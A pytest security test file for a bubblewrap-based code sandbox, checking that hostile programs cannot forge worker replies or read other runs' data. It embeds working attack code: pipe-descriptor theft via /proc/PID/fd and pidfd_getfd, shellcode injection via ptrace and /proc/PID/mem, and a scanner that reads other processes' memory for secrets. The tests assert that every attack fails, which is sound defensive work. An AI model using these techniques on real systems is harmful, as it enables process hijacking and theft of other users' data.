"""Sandboxed programs that try to speak for their sandbox, or to read another run's request.

A warm worker serves one program after another over a request pipe and a reply pipe. Any
program run through ``Sandbox.run_python`` (an in-loop verifier, ``loopwright tools run``)
is hostile here: it tries to reach those pipes (``/proc/PID/fd``, ``pidfd_getfd``), or to make
a process that holds them write for it (ptrace, ``/proc/PID/mem``), to forge its own reply,
to shift every later reply on its worker by one run, and to read the next run's request; it
scans the memory it inherited for earlier runs' files, input and output; and on the cold
path it looks for the files bwrap copied in. Everything goes through the real bubblewrap
sandbox, and every attack is judged where it matters: by what the host gets back for the
attacker and for the honest runs after it.
"""

from __future__ import annotations

import json
import os
import platform
import secrets
import struct
import textwrap
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor

import pytest
from loopwright.sandboxes import BwrapSandbox, SandboxLimits

LIMITS = SandboxLimits(timeout_s=20)
X86_64 = platform.machine() == "x86_64"


def _bwrap(**kw: object) -> Iterator[BwrapSandbox]:
    reason = BwrapSandbox.check()
    if reason is not None:
        if os.environ.get("CI"):
            pytest.fail(f"bwrap sandbox unavailable in CI: {reason}")
        pytest.skip(f"bwrap sandbox unavailable: {reason}")
    sb = BwrapSandbox(**kw)  # type: ignore[arg-type]
    yield sb
    sb.close()


@pytest.fixture
def warm() -> Iterator[BwrapSandbox]:
    """One worker, so that the attacker and the honest runs after it share it."""
    yield from _bwrap(warm_workers=1)


@pytest.fixture(scope="module")
def cold() -> Iterator[BwrapSandbox]:
    yield from _bwrap(warm=False)


def _honest(sb: BwrapSandbox) -> None:
    """A run with a secret of its own gets exactly its own output back."""
    token = secrets.token_hex(8)
    r = sb.run_python(
        "import sys; print(open('secret.txt').read(), sys.stdin.read())",
        files={"secret.txt": f"file-{token}"},
        stdin=f"input-{token}",
        limits=LIMITS,
    )
    assert (r.exit_code, r.killed_by, r.stdout) == (0, None, f"file-{token} input-{token}\n"), r


# --- the attacker -----------------------------------------------------------------------------

# Finds every process it can see and, through ``VECTOR``, every pipe other than its own stdio
# it can get hold of, or every process it can make write for it. It then writes a forged
# warm-server reply ("FORGED") on each such pipe; when it also holds a pipe to read, it waits
# for the next request there and forges the reply to that one too, carrying what it read.
# Its true output is one line: how many footholds it got.
ATTACK = r"""
import base64, ctypes, fcntl, json, os, select, stat, struct, time
VECTOR = {vector!r}
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ME = os.getpid()
OWN = {{os.fstat(fd).st_ino for fd in (0, 1, 2)}}


def reply(stdout):
    body = json.dumps({{"exit_code": 0, "killed_by": None, "truncated": False,
                        "duration_s": 0.01, "stdout": base64.b64encode(stdout).decode(),
                        "stderr": ""}}).encode()
    return struct.pack(">I", len(body)) + body


FRAME = reply(b"FORGED\n")


def foreign_pipe(fd):
    st = os.fstat(fd)
    return stat.S_ISFIFO(st.st_mode) and st.st_ino not in OWN


def keep(fd, out):  # (fd, writable) when fd is a pipe other than our stdio
    if foreign_pipe(fd):
        out.append((fd, fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY))
    else:
        os.close(fd)


def via_proc_fd(pid, out):
    try:
        names = os.listdir("/proc/%d/fd" % pid)
    except OSError:
        return 0
    for name in names:
        for flags in (os.O_RDONLY, os.O_WRONLY):
            try:
                keep(os.open("/proc/%d/fd/%s" % (pid, name), flags | os.O_NONBLOCK), out)
            except OSError:
                pass
    return 0


def via_pidfd_getfd(pid, out):
    pidfd = libc.syscall(434, pid, 0)
    if pidfd < 0:
        return 0
    for n in range(64):
        fd = libc.syscall(438, pidfd, n, 0)
        if fd >= 0:
            keep(fd, out)
    os.close(pidfd)
    return 0


def shellcode():  # x86_64: write(1, FRAME, len); exit_group(0)
    code = (b"\x48\x8d\x35" + struct.pack("<i", 26) + b"\xba" + struct.pack("<I", len(FRAME))
            + b"\xbf\x01\x00\x00\x00\xb8\x01\x00\x00\x00\x0f\x05"
            + b"\xb8\xe7\x00\x00\x00\x31\xff\x0f\x05")
    return code + FRAME


def via_ptrace(pid, out):
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return 0
    os.waitpid(pid, 0x40000000)  # __WALL
    regs = (ctypes.c_ulong * 27)()
    libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
    rip, code = regs[16], shellcode()
    code += b"\x90" * (-len(code) % 8)
    for i in range(0, len(code), 8):
        word = int.from_bytes(code[i:i + 8], "little")
        libc.ptrace(4, pid, rip + i, word)  # PTRACE_POKETEXT
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return 1


def via_proc_mem(pid, out):
    try:
        fields = open("/proc/%d/syscall" % pid).read().split()
        if fields[0] in ("running", "-1"):
            return 0
        with open("/proc/%d/mem" % pid, "r+b", buffering=0) as mem:
            mem.seek(int(fields[-1], 16))
            mem.write(shellcode())
    except OSError:
        return 0
    return 1


footholds = []
patched = 0
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != ME]:
    patched += globals()["via_" + VECTOR](pid, footholds)
writers = [fd for fd, w in footholds if w]
readers = [fd for fd, w in footholds if not w]
for fd in writers:
    os.set_blocking(fd, True)
    try:
        os.write(fd, FRAME)
    except OSError:
        pass
if patched:  # an orphan that exits wakes an init blocked in wait()
    if os.fork() == 0:
        if os.fork() == 0:
            time.sleep(0.05)
            os._exit(0)
        os._exit(0)
    os.wait()
if writers and readers:  # the host took the forged reply: the next request comes to us
    stolen = b""
    deadline = time.time() + 5
    while time.time() < deadline and len(stolen) < 4:
        if select.select(readers, [], [], 0.1)[0]:
            for fd in readers:
                try:
                    stolen += os.read(fd, 1 << 20)
                except OSError:
                    pass
    time.sleep(0.2)
    for fd in writers:
        try:
            os.write(fd, reply(b"STOLEN " + stolen))
        except OSError:
            pass
time.sleep(0.3)
print("footholds", len(footholds) + patched)
"""

VECTORS = ["proc_fd", "pidfd_getfd", "ptrace", "proc_mem"]


def _attack(vector: str) -> str:
    if vector in ("ptrace", "proc_mem") and not X86_64:
        pytest.skip("the code-injection attacks are written for x86_64")
    return ATTACK.format(vector=vector)


@pytest.mark.parametrize("vector", VECTORS)
def test_warm_program_cannot_forge_or_shift_replies(warm: BwrapSandbox, vector: str) -> None:
    """The attacker gets its true output back (it found nothing to hold), and the honest runs
    after it on the same worker get theirs: no forged reply, no reply shifted by one run."""
    _honest(warm)
    before = warm.worker_pids()
    r = warm.run_python(_attack(vector), limits=LIMITS)
    assert "FORGED" not in r.stdout and "STOLEN" not in r.stdout, r
    assert (r.exit_code, r.stdout) == (0, "footholds 0\n"), r
    for _ in range(3):
        _honest(warm)
    assert warm.worker_pids() == before  # the same worker, still trusted, served them all


@pytest.mark.parametrize("vector", ["proc_fd", "pidfd_getfd"])
def test_warm_program_cannot_read_the_next_request(warm: BwrapSandbox, vector: str) -> None:
    """Were the attacker to hold the request pipe when the host moved on, the next run's
    request (its files, its input) would be its; the next run gets its own output instead,
    with nothing of the attacker's in it."""
    with ThreadPoolExecutor(1) as pool:
        attacker = pool.submit(warm.run_python, _attack(vector), limits=LIMITS)
        time.sleep(0.5)  # the attacker is running: the next run queues for the same worker
        token = secrets.token_hex(8)
        r = warm.run_python(
            "import sys; print(open('spec.json').read(), sys.stdin.read())",
            files={"spec.json": json.dumps({"nonce": token})},
            stdin=f"tests-{token}",
            limits=LIMITS,
        )
        assert r.stdout == json.dumps({"nonce": token}) + f" tests-{token}\n", r
        a = attacker.result()
    assert token not in a.stdout and (a.exit_code, a.stdout) == (0, "footholds 0\n"), a
    _honest(warm)


# --- memory a program inherits ----------------------------------------------------------------

# Makes itself dumpable again (a fork of the warm server starts non-dumpable), then reads every
# process's memory it may, its own included, for earlier runs' secrets: "LWS" + F(ile),
# I(nput) or O(utput) + 32 hex digits. The pattern's own text does not match it.
SCAN = r"""
import ctypes, os, re
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
pattern = re.compile(rb"LWS[FIO]-[0-9a-f]{32}")
found, denied = set(), []
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    try:
        maps = open("/proc/%d/maps" % pid).read().splitlines()
        mem = open("/proc/%d/mem" % pid, "rb", buffering=0)
    except OSError:
        denied.append(pid)
        continue
    for line in maps:
        span, perms = line.split()[:2]
        if "r" not in perms:
            continue
        start, end = (int(x, 16) for x in span.split("-"))
        try:
            mem.seek(start)
            chunk = mem.read(end - start)
        except (OSError, OverflowError, ValueError):
            continue
        found.update(m.decode() for m in pattern.findall(chunk))
    mem.close()
print((sorted(found), denied))
"""


def _secrets() -> dict[str, str]:
    return {kind: f"LWS{kind}-{secrets.token_hex(16)}" for kind in "FIO"}


def test_warm_program_finds_no_earlier_run_in_its_memory(warm: BwrapSandbox) -> None:
    """A warm program is a fork of the server: nothing of an earlier run's files, input or
    output may be in what it inherits, whatever their sizes."""
    seen: list[str] = []
    for reps in (3, 100, 3000):
        s = _secrets()
        seen += s.values()
        o_head, o_tail = s["O"][:8], s["O"][8:]
        r = warm.run_python(
            "import sys; sys.stdin.read(); open('data.txt').read()\n"
            f"print(({o_head!r} + {o_tail!r}) * {reps})",
            files={"data.txt": s["F"] * reps},
            stdin=s["I"] * reps,
            limits=LIMITS,
        )
        assert r.stdout == s["O"] * reps + "\n", r.stderr
        r = warm.run_python(SCAN, limits=LIMITS)
        assert r.exit_code == 0, r
        found, denied = eval(r.stdout)
        assert found == [] and not any(v in r.stdout for v in seen), (reps, found)
        assert 1 in denied  # the server: not dumpable


def test_cold_init_keeps_no_file_contents(cold: BwrapSandbox) -> None:
    """bwrap copies the files in through a buffer in what becomes the sandbox's init; once the
    program runs, no process it can read holds them (a first stage may delete a file before
    running untrusted code)."""
    for size in (1, 300, 5000):
        s = _secrets()
        code = "import os; os.unlink('secret.bin')\n" + SCAN
        # main.py first: the secret is the last file copied in
        r = cold.run(
            [*cold.python_argv(), "main.py"],
            files={"main.py": code, "secret.bin": (s["F"] * size).encode()},
            limits=LIMITS,
        )
        assert r.exit_code == 0, r
        found, denied = eval(r.stdout)
        assert found == [] and denied == [], (size, found, denied)


# --- the cold path: nothing but the program's own stdio, and no ptrace at all -----------------


@pytest.mark.parametrize("vector", ["proc_fd", "pidfd_getfd", "ptrace"])
def test_cold_program_holds_no_pipe_but_its_own(cold: BwrapSandbox, vector: str) -> None:
    """Cold, the sandbox's init (bwrap's) holds the run's own stdio and nothing else: no
    vector yields a pipe that is not the program's own, and ptrace is refused outright."""
    r = cold.run_python(_attack(vector), limits=LIMITS)
    assert (r.exit_code, r.stdout) == (0, "footholds 0\n"), r


def test_seccomp_refuses_ptrace_and_descriptor_theft(
    warm: BwrapSandbox, cold: BwrapSandbox
) -> None:
    """Every sandboxed process, the program's own children included, gets EPERM for ptrace,
    process_vm_readv and pidfd_getfd, even against a process it could otherwise reach."""
    if platform.system() != "Linux" or platform.machine() not in ("x86_64", "aarch64"):
        pytest.skip("no seccomp filter for this architecture")
    nr = {"x86_64": (101, 310, 438), "aarch64": (117, 270, 438)}[platform.machine()]
    code = f"""
        import ctypes, os, signal
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        ptrace, vm_readv, getfd = {nr}
        child = os.fork()
        if child == 0:
            signal.pause()
        buf = ctypes.create_string_buffer(8)
        iov = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 8)
        calls = {{
            "ptrace": (ptrace, 16, child, 0, 0),
            "process_vm_readv": (vm_readv, child, ctypes.byref(iov), 1, ctypes.byref(iov), 1, 0),
            "pidfd_getfd": (getfd, os.pidfd_open(child), 0, 0),
        }}
        for name, args in calls.items():
            rc = libc.syscall(*args)
            print(name, rc, ctypes.get_errno())
        os.kill(child, signal.SIGKILL)
    """
    for sb in (warm, cold):
        r = sb.run_python(textwrap.dedent(code), limits=LIMITS)
        assert r.exit_code == 0, r
        assert r.stdout.split("\n")[:-1] == [
            f"{name} -1 1" for name in ("ptrace", "process_vm_readv", "pidfd_getfd")
        ], r.stdout


# --- the host's own check -----------------------------------------------------------------------


def test_host_rejects_a_reply_that_is_not_for_its_request(warm: BwrapSandbox) -> None:
    """Should anything reach the reply pipe, a reply must echo the request's random id: the
    host puts a well-formed reply with another id on the pipe ahead of the server's; that run
    fails, its worker is replaced, and the next run gets its own output."""
    _honest(warm)
    pool = warm._pool
    assert pool is not None
    worker = pool._idle[0]
    assert worker.proc.stdout is not None
    head = json.dumps(
        {"exit_code": 0, "killed_by": None, "truncated": False, "duration_s": 0.0}
        | {"stdout": 7, "stderr": 0, "retire": False}
    ).encode()
    frame = secrets.token_bytes(16) + struct.pack(">I", len(head)) + head + b"FORGED\n"
    fd = os.open(f"/proc/self/fd/{worker.proc.stdout.fileno()}", os.O_WRONLY)
    try:
        os.write(fd, struct.pack(">I", len(frame)) + frame)
    finally:
        os.close(fd)
    r = warm.run_python("print('mine')", limits=LIMITS)
    assert "FORGED" not in r.stdout and r.exit_code is None and r.killed_by == "signal", r
    assert "did not match" in r.stderr
    assert worker not in pool._idle and worker.proc.poll() is not None
    _honest(warm)
    assert pool._idle and pool._idle[0] is not worker


def test_forged_looking_output_is_only_output(warm: BwrapSandbox) -> None:
    """A program that prints what a reply frame looks like gets it back as its output."""
    head = json.dumps({"exit_code": 0, "stdout": 7, "stderr": 0}).encode()
    fake = struct.pack(">I", 16 + 4 + len(head) + 7) + bytes(16) + struct.pack(">I", len(head))
    code = f"import sys; sys.stdout.buffer.write({fake + head + b'FORGED!'!r}); sys.exit(3)"
    r = warm.run_python(code, limits=LIMITS)
    assert r.exit_code == 3 and r.stdout == (fake + head + b"FORGED!").decode("utf-8", "replace")
    _honest(warm)
